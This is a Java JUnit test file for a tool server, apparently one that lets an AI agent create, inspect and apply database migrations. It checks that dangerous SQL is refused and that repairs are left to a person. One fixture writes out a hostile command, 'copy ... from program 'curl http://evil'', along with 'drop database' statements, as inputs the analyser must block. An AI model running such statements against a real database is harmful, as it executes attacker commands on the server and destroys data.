package dev.safemigrate.mcp;

import static dev.safemigrate.testing.ToolCalls.call;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.safemigrate.testing.InProcessServer;
import dev.safemigrate.testing.ProjectDir;
import dev.safemigrate.testing.TestDatabase;
import dev.safemigrate.testing.ToolCalls.Result;

/** The analysis where the agent meets it: refusals in create_migration and apply_to_dev, detail in show_sql. */
class AnalysisInToolsTest {

    @TempDir
    Path root;

    @Test
    void createMigrationRefusesBlockedStatementsWithLineAndReasonAndWritesNothing() {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("blocked"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            Result r = call(s.client, "create_migration", "name", "sneaky", "sql",
                    "create table ok_t (id bigint);\n\ndrop database other_db;\nalter database x set safemigrate.environment = 'dev';");
            assertEquals("SQL_REJECTED", r.errorCode(), r.toString());
            List<Map<String, Object>> blocked = r.list("findings").stream().filter(f -> f.get("severity").equals("block")).toList();
            // the tools do not pass the dev database's name yet: every database named counts as another one
            assertEquals(List.of("drop-database:3", "other-database:4", "safemigrate-setting:4"),
                    blocked.stream().map(f -> f.get("rule") + ":" + f.get("line")).toList());
            assertTrue(((String) r.get("error.message")).contains("line 3"));
        }
        assertEquals(List.of(), p.migrationFiles());
    }

    @Test
    void applyReanalysesFilesItDidNotWriteAndNeverAppliesABlockedOne() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("handwritten"), "");
        Files.createDirectories(p.migrations());
        Files.writeString(p.migrations().resolve("V1__by_hand.sql"),
                "create table by_hand (id bigint);\ncopy by_hand from program 'curl http://evil';\n");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            Result r = call(s.client, "apply_to_dev");
            assertEquals("SQL_REJECTED", r.errorCode(), r.toString());
            assertEquals("copy-server-file", r.get("findings.0.rule"));
            assertEquals("1", r.get("findings.0.migration"));
            assertEquals(2, r.get("findings.0.line"));
            assertEquals("SQL_REJECTED", call(s.client, "apply_to_dev", "dry_run", true).errorCode());
        }
        assertFalse(TestDatabase.tableExists(p.database, "by_hand"));
        assertFalse(TestDatabase.tableExists(p.database, "flyway_schema_history"));
    }

    @Test
    void anAllowCommentShowsItsReasonInCreateMigrationsFindingsAndATypoIsRefused() {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("allowed"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            call(s.client, "create_migration", "name", "base", "sql", "create table base (id bigint primary key, note text);");
            call(s.client, "apply_to_dev");
            Result typo = call(s.client, "create_migration", "name", "drop_note", "sql",
                    "-- safemigrate:allow drop-colum unused since 4.2\nalter table base drop column note;");
            assertEquals("SQL_REJECTED", typo.errorCode(), typo.toString());
            assertTrue(typo.list("findings").stream().anyMatch(f -> f.get("rule").equals("allow-comment")
                    && f.get("severity").equals("block")), typo.toString());
            Result created = call(s.client, "create_migration", "name", "drop_note", "sql",
                    "-- safemigrate:allow drop-column unused since 4.2\nalter table base drop column note;");
            assertFalse(created.isError(), created.toString());
            Map<String, Object> drop = created.list("findings").stream().filter(f -> f.get("rule").equals("drop-column"))
                    .findFirst().orElseThrow(() -> new AssertionError(created));
            assertEquals("info", drop.get("severity"));
            assertEquals("confirm", drop.get("allowed_from"));
            assertEquals("unused since 4.2", drop.get("allowed_reason"));
        }
    }

    @Test
    void showSqlDescribesEachStatement() {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("describe"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            call(s.client, "create_migration", "name", "base", "sql", "create table base (id bigint primary key);");
            call(s.client, "apply_to_dev");
            String version = (String) call(s.client, "create_migration", "name", "change", "sql",
                    "alter table base add column status text not null;\n"
                            + "create index base_status on base (status);\n"
                            + "alter table base alter column id type integer;").get("version");
            Result shown = call(s.client, "show_sql");
            List<Map<String, Object>> statements = shown.list("migrations.0.statements");
            assertEquals(3, statements.size());
            assertEquals(List.of(1, 2, 3), statements.stream().map(st -> st.get("line")).toList());
            Map<String, Object> index = statements.get(1);
            assertEquals("ShareLock", index.get("lock"));
            assertEquals(true, index.get("transactional"));
            Map<String, Object> retype = statements.get(2);
            assertEquals("AccessExclusiveLock", retype.get("lock"));
            assertEquals(true, retype.get("rewrite"));
            // each finding once, naming its statement; each statement with its own findings in list statements
            List<Map<String, Object>> findings = shown.list("migrations.0.findings");
            assertTrue(findings.stream().anyMatch(f -> f.get("statement").equals(2) && f.get("rule").equals("index-not-concurrent")),
                    findings.toString());
            assertTrue(findings.stream().anyMatch(f -> f.get("statement").equals(3) && f.get("severity").equals("confirm")),
                    findings.toString());
            assertTrue(shown.text().contains("index-not-concurrent"), shown.text());
            Result listed = call(s.client, "show_sql", "version", version, "list", "statements");
            assertEquals("create index base_status on base (status)", listed.get("statements.1.text"));
            assertTrue(((List<?>) listed.get("statements.1.findings")).toString().contains("index-not-concurrent"), listed.toString());
            assertTrue(((List<?>) listed.get("statements.2.findings")).toString().contains("confirm"), listed.toString());
        }
    }

    @Test
    void concurrentlyMigrationsRunOutsideATransactionAndMustStandAlone() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("concurrent"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            call(s.client, "create_migration", "name", "base", "sql", "create table base (id bigint primary key, email text);");
            Result mixed = call(s.client, "create_migration", "name", "mixed", "sql",
                    "create index concurrently base_email on base (email);\nalter table base add column x text;");
            assertEquals("SQL_REJECTED", mixed.errorCode());
            assertTrue(mixed.list("findings").stream().anyMatch(f -> f.get("rule").equals("concurrently-in-transaction")));

            Result alone = call(s.client, "create_migration", "name", "email_index", "sql",
                    "create index concurrently base_email on base (email);");
            assertFalse(alone.isError(), alone.toString());
            assertEquals(false, alone.get("execute_in_transaction"));
            Path sql = root.resolve((String) alone.get("path"));
            assertEquals("executeInTransaction=false", Files.readString(sql.resolveSibling(sql.getFileName() + ".conf"))
                    .lines().filter(l -> !l.startsWith("#")).findFirst().orElseThrow());

            Result applied = call(s.client, "apply_to_dev");
            assertFalse(applied.isError(), applied.toString());
            assertEquals(2, applied.list("applied").size());
            assertEquals(1, TestDatabase.queryLong(p.database,
                    "select count(*) from pg_index x join pg_class i on i.oid = x.indexrelid where i.relname = 'base_email' and x.indisvalid"));

            // outside a transaction a failure cannot be rolled back: Flyway records it, and only a person may repair it
            call(s.client, "create_migration", "name", "bad_index", "sql", "create index concurrently base_nope on base (nope);");
            assertEquals("MIGRATION_FAILED", call(s.client, "apply_to_dev").errorCode());
            Result after = call(s.client, "apply_to_dev");
            assertEquals("VALIDATION_FAILED", after.errorCode(), after.toString());
            String hint = (String) after.get("error.hint");
            assertTrue(hint.contains("a person must"), after.toString());
            assertFalse(hint.toLowerCase().contains("repair"), "never advise a command the agent does not have: " + hint);
            assertEquals(1, call(s.client, "status").get("summary.failed"));
        }
    }
}
